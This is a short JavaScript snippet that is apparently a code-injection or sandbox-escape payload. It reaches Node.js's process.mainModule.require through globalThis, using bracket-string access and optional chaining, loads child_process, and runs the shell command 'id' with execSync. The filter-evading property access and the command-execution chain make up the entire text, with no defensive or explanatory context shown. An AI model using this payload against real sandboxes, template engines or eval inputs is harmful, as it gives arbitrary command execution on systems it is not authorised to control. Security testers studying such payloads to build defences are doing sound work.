const g = globalThis;
g?.['process']?.mainModule?.['require']?.('child_process')?.execSync?.('id');
